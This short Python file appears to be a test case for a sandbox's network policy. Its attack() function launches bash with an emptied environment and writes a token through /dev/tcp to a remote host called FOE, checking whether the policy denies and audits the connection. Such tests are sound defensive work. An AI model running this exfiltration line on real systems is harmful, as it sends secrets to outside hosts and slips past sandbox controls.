"""The same with an emptied environment
Empties the environment on the way to bash.
policy: network-of-children
audit: explicitlyDeniedIP
proof: arrival
"""
import subprocess


def attack(at):
    subprocess.call(['/usr/bin/env', '-i', '/usr/bin/bash', '-c', 'echo %s > /dev/tcp/%s/%d' % (at.token.decode(), at.FOE, at.PORT)])
    return True
